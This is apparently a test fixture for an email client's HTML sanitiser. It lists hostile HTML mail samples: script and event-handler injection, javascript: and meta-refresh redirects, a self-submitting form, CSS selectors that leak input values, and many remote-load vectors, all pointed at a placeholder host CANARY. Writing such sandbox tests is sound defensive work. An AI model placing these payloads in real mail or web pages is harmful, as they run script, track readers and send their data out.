// What HTML mail can try. `CANARY` stands for the address of a server that must never hear of it; what would run sets
// `isTouched` in the page around the frame, or in the top window.

const TOUCH = "top.isTouched=true;parent.isTouched=true;fetch('http://CANARY/ran');document.title='ran'";

export const HOSTILE: Readonly<Record<string, string>> = {
  'a script': `<script>${TOUCH}</script>`,
  'a remote script':
    '<script src="http://CANARY/x.js"></script><script type="module" src="http://CANARY/m.js"></script>',
  'event handlers': `<body onload="${TOUCH}"><img src=x onerror="${TOUCH}"><svg onload="${TOUCH}"></svg><details open ontoggle="${TOUCH}">x</details><input autofocus onfocus="${TOUCH}"><video onloadstart="${TOUCH}" src="x"></video><marquee onstart="${TOUCH}">m</marquee>`,
  'an animation that ends': `<style>@keyframes x{}p{animation:x 1ms}</style><p onanimationend="${TOUCH}" onanimationstart="${TOUCH}">x</p>`,
  'meta refresh': '<meta http-equiv="refresh" content="0;url=http://CANARY/refresh">',
  'meta refresh to a script': `<meta http-equiv="refresh" content="0;url=javascript:${TOUCH}">`,
  'a policy of its own': `<meta http-equiv="Content-Security-Policy" content="default-src *; script-src * 'unsafe-inline'"><script>${TOUCH}</script><img src="http://CANARY/policy.gif">`,
  'a base address': '<base href="http://CANARY/base/"><img src="relative.gif"><link rel="stylesheet" href="s.css">',
  'a form that sends itself': `<form id="f" action="http://CANARY/form" method="post"><input name="a" value="b"></form><script>document.getElementById('f').submit()</script><button form="f" autofocus>x</button>`,
  'remote images':
    '<img src="http://CANARY/a.gif"><img srcset="http://CANARY/b.gif 1x, http://CANARY/c.gif 2x"><picture><source srcset="http://CANARY/d.webp"><img src="http://CANARY/e.gif"></picture><input type="image" src="http://CANARY/f.gif">',
  'images without a scheme': '<img src="//CANARY/g.gif"><img src="\\\\CANARY\\h.gif"><img src="ht\ntp://CANARY/i.gif">',
  backgrounds:
    '<body background="http://CANARY/body.gif"><table background="http://CANARY/table.gif"><tr><td background="http://CANARY/td.gif">x</td></tr></table><div style="background:url(http://CANARY/div.gif)">x</div>',
  'style sheets':
    '<link rel="stylesheet" href="http://CANARY/s.css"><style>@import "http://CANARY/i.css";@import url(http://CANARY/j.css);</style><style>body{background:url("http://CANARY/k.gif")}li{list-style-image:url(http://CANARY/l.gif)}</style><ul><li>x</li></ul>',
  'css that reads values':
    '<style>input[value^="a"]{background:url(http://CANARY/css-a)}input[value$="c"]{background-image:image-set(url(http://CANARY/css-b) 1x)}</style><input value="abc">',
  fonts:
    '<style>@font-face{font-family:f;src:url(http://CANARY/f.woff2)}body{font-family:f;cursor:url(http://CANARY/c.cur),auto;content:url(http://CANARY/d.gif)}p::before{content:url(http://CANARY/e.gif)}</style><p>text</p>',
  'links that load ahead':
    '<link rel="preload" as="image" href="http://CANARY/p.gif"><link rel="prefetch" href="http://CANARY/q"><link rel="preconnect" href="http://CANARY"><link rel="dns-prefetch" href="//CANARY"><link rel="modulepreload" href="http://CANARY/m.js"><link rel="icon" href="http://CANARY/i.ico"><link rel="manifest" href="http://CANARY/m.json"><link rel="prerender" href="http://CANARY/r">',
  media:
    '<video poster="http://CANARY/poster.gif" src="http://CANARY/v.mp4" autoplay></video><audio src="http://CANARY/a.mp3" autoplay></audio><video><source src="http://CANARY/w.mp4"><track default src="http://CANARY/t.vtt"></video>',
  frames:
    '<iframe src="http://CANARY/frame"></iframe><iframe srcdoc="<script>top.isTouched=true</script><img src=http://CANARY/srcdoc.gif>"></iframe><frameset><frame src="http://CANARY/fs"></frameset>',
  'a frame of the page itself': `<iframe src="/"></iframe><iframe src="javascript:${TOUCH}"></iframe><iframe src="data:text/html,<script>top.isTouched=true</script>"></iframe>`,
  plugins:
    '<object data="http://CANARY/o.swf"></object><embed src="http://CANARY/e.swf"><applet code="x" codebase="http://CANARY/"></applet><object type="text/html" data="http://CANARY/o.html"></object>',
  svg: `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><script>${TOUCH}</script><image href="http://CANARY/s.gif"/><image xlink:href="http://CANARY/t.gif"/><use href="http://CANARY/u.svg#x"/><foreignObject><img src="http://CANARY/f.gif"></foreignObject><filter id="f"><feImage href="http://CANARY/fe.gif"/></filter><rect width="9" height="9" filter="url(#f)" fill="url(http://CANARY/p.svg#x)"/><set attributeName="onmouseover" to="${TOUCH}"/><animate onbegin="${TOUCH}" attributeName="x" dur="1s"/></svg>`,
  mathml: `<math><mtext><table><mglyph><style><img src=x onerror="${TOUCH}"></style></mglyph></table></mtext><maction actiontype="statusline" xlink:href="javascript:${TOUCH}">x</maction></math>`,
  'markup that changes when read twice': `<noscript><p title="</noscript><img src=x onerror=${TOUCH}>"></noscript><template><img src="http://CANARY/template.gif"></template><xmp><img src=x onerror="${TOUCH}"></xmp><!--><img src=x onerror="${TOUCH}">-->`,
  'pings and templates':
    '<a href="http://CANARY/a" ping="http://CANARY/ping">x</a><div><template shadowrootmode="open"><img src="http://CANARY/shadow.gif"></template></div>',
  'a portal and a fenced frame':
    '<portal src="http://CANARY/portal"></portal><fencedframe src="http://CANARY/fenced"></fencedframe><embed type="text/html" src="http://CANARY/embed">',
  reports:
    '<meta http-equiv="Content-Security-Policy-Report-Only" content="default-src \'none\'; report-uri http://CANARY/report"><meta name="referrer" content="unsafe-url"><img src="http://CANARY/r.gif">',
  'speculation rules':
    '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["http://CANARY/speculation"]}]}</script><script type="importmap">{"imports":{"x":"http://CANARY/x.js"}}</script>',
  'cookies and storage': `<meta http-equiv="set-cookie" content="a=b"><script>document.cookie='a=b';localStorage.x=1;${TOUCH}</script>`,
};
